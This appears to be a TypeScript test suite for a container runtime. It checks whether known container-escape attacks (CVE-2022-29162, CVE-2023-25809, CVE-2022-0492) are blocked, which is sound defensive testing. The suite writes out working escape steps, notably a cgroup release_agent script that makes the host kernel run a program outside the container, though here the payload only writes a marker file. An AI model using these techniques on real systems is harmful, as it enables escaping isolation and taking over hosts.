import { execFileSync, spawn } from 'node:child_process';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, vi } from 'vitest';
import { sleep, systemClock } from '#machinery/clock.ts';
import { DEFAULT_CAPABILITIES } from '../capabilities.ts';
import type * as encode from '../encode.ts';
import { Payload, TAG } from '../protocol.ts';
import { defaultSeccomp } from '../seccomp/index.ts';
import { attacks, bind, content, imageOf, outcome, type Target } from './attack.ts';
import { buildAttacker, fileCapabilities } from './tools.ts';

/** Attacks with what a process holds: capabilities, control groups, namespaces of its own. */

const isDelegated = /^cgroup2 \S+ cgroup2 \S*\bnsdelegate\b/m.test(readFileSync('/proc/mounts', 'utf8'));

/** Whether starts are encoded with the container's control groups writable. */
let writableCgroups = false;

vi.mock('../encode.ts', async (original) => {
  const real = await original<typeof encode>();
  const encodeStart: typeof real.encodeStart = (...what) => {
    const payload = real.encodeStart(...what);
    return writableCgroups ? withWritableCgroups(payload) : payload;
  };
  return { ...real, encodeStart };
});

const READ_ONLY = 1n;
const HEADER = 6;

/** Clears the read-only flag of every mount at or below /sys/fs/cgroup. */
function withWritableCgroups(payload: Payload): Payload {
  const bytes = Buffer.from(payload.encode());
  const changed = new Payload();
  for (const [tag, value] of fields(bytes)) {
    const inner = tag === TAG.MOUNT ? [...fields(value)] : [];
    const target = inner.find(([kind]) => kind === TAG.TARGET)?.[1].toString() ?? '';
    const flags = inner.find(([kind]) => kind === TAG.FLAGS)?.[1];
    if (target.startsWith('/sys/fs/cgroup') && flags)
      flags.writeBigUInt64LE(flags.readBigUInt64LE() & ~READ_ONLY);
    changed.bytes(tag, value);
  }
  return changed;
}

function* fields(bytes: Buffer): Generator<[tag: number, value: Buffer]> {
  for (let at = 0; at < bytes.length; ) {
    const end = at + HEADER + bytes.readUInt32LE(at + 2);
    yield [bytes.readUInt16LE(at), bytes.subarray(at + HEADER, end)];
    at = end;
  }
}

/**
 * A hierarchy of control groups of the test's own, in whose root all processes are, those of containers too; mounted nowhere
 * that others see. Stands for those of the machine that the runtime does not use.
 */
async function withHierarchy<T>(directory: string, use: (name: string) => Promise<T>): Promise<T> {
  const name = `gantry-attack-${process.pid}`;
  await mkdir(directory);
  const script = `mount -t cgroup -o none,name=${name} none ${directory} && echo ready && read end`;
  const holder = spawn('unshare', ['-m', 'sh', '-c', script], { stdio: ['pipe', 'pipe', 'inherit'] });
  const ended = once(holder, 'exit');
  try {
    const [said] = await once(holder.stdout, 'data');
    expect(String(said)).toBe('ready\n');
    return await use(name);
  } finally {
    holder.stdin.end();
    await ended;
    await hierarchyGone(name, directory);
  }
}

/** It goes by itself, unless a group was still going when its last mount went: then with the end of another mount. */
async function hierarchyGone(name: string, directory: string): Promise<void> {
  const gone = async () => !(await readFile('/proc/self/cgroup', 'utf8')).includes(name);
  for (let tries = 0; tries < 40 && !(await gone()); tries++) {
    if (tries % 10 === 9) {
      const again = `mount -t cgroup -o none,name=${name} none ${directory} && umount ${directory}`;
      execFileSync('unshare', ['-m', 'sh', '-c', again]);
    }
    await sleep(systemClock, 50);
  }
  expect(await gone()).toBe(true);
}

/** Mounts the hierarchy and has the kernel start a program outside when a group in it becomes empty. */
const RELEASE_AGENT = (name: string, agent: string) => `
  mkdir /groups && mount -t cgroup -o none,name=${name} none /groups && mkdir /groups/empty || exit
  echo ${agent} > /groups/release_agent && echo 1 > /groups/empty/notify_on_release || exit
  sh -c 'echo $$ > /groups/empty/cgroup.procs'
  for i in 1 2 3 4 5 6 7 8 9 10; do test -e /volume/owned && break; sleep 0.1; done
  rmdir /groups/empty; umount /groups`;

async function releaseAgent(target: Target, capabilities: readonly string[]): Promise<string> {
  const volume = join(target.node.base, 'volume');
  await mkdir(volume);
  // All that it does on the node is to write beside itself.
  const agent = join(volume, 'agent');
  await writeFile(agent, `#!/bin/sh\necho outside > ${volume}/owned\n`, { mode: 0o755 });
  const said = await withHierarchy(join(target.node.base, 'groups'), (name) =>
    outcome(target, RELEASE_AGENT(name, agent), {
      mounts: [bind(volume, '/volume')],
      capabilities: [...capabilities],
      seccomp: defaultSeccomp(capabilities),
    }),
  );
  return `${await content(volume, 'owned')} ${said}`;
}

attacks('privileges', [
  {
    name: 'CVE-2022-29162: a file of the image whose inheritable capabilities become a user’s by running it',
    defence: 'empty-inheritable',
    async attempt(target) {
      const root = await target.node.root();
      const image = imageOf(root);
      await mkdir(join(image, 'loot'));
      await fileCapabilities(target.node.base, join(image, 'loot/cat'), ['CAP_DAC_OVERRIDE']);
      await writeFile(join(image, 'secret'), 'root’s secret', { mode: 0o600 });
      return await outcome(target, '/loot/cat /secret 2>&1', { root, uid: 1000, gid: 1000 });
    },
    stopped: /Permission denied/,
    succeeded: 'root’s secret',
  },
  {
    name: 'CVE-2023-25809: a container that writes its own limits in /sys/fs/cgroup',
    // Source: kernel documentation, "Control Group v2", nsdelegate.
    impossible: isDelegated ? 'the kernel lets no cgroup namespace write the limits of its root' : undefined,
    async attempt(target) {
      writableCgroups = !target.defended;
      try {
        const limit = '$(ls -d /sys/fs/cgroup/pids/pids.max /sys/fs/cgroup/pids.max 2>/dev/null)';
        const script = `{ echo max > ${limit}; } 2>/dev/null; cat ${limit}`;
        return `limit: ${await outcome(target, script, { resources: { pids: 50 } })}`;
      } finally {
        writableCgroups = false;
      }
    },
    stopped: 'limit: 50',
    succeeded: 'limit: max',
  },
  {
    name: 'CVE-2022-0492: a hierarchy of control groups mounted in a new user namespace',
    async attempt(target) {
      const root = await target.node.root();
      buildAttacker(imageOf(root));
      return await withHierarchy(join(target.node.base, 'groups'), (name) =>
        outcome(target, `/attacker hierarchy ${name} /tmp`, {
          root,
          ...(!target.defended && { seccomp: undefined }),
        }),
      );
    },
    stopped: 'unshare: Operation not permitted',
    succeeded: 'mounted',
  },
  {
    name: 'CVE-2022-0492: a release agent that the kernel runs outside of the container',
    async attempt(target) {
      const more = target.defended ? [] : ['CAP_SYS_ADMIN'];
      return await releaseAgent(target, [...DEFAULT_CAPABILITIES, ...more]);
    },
    stopped: /^not there/,
    succeeded: /^outside/,
  },
]);
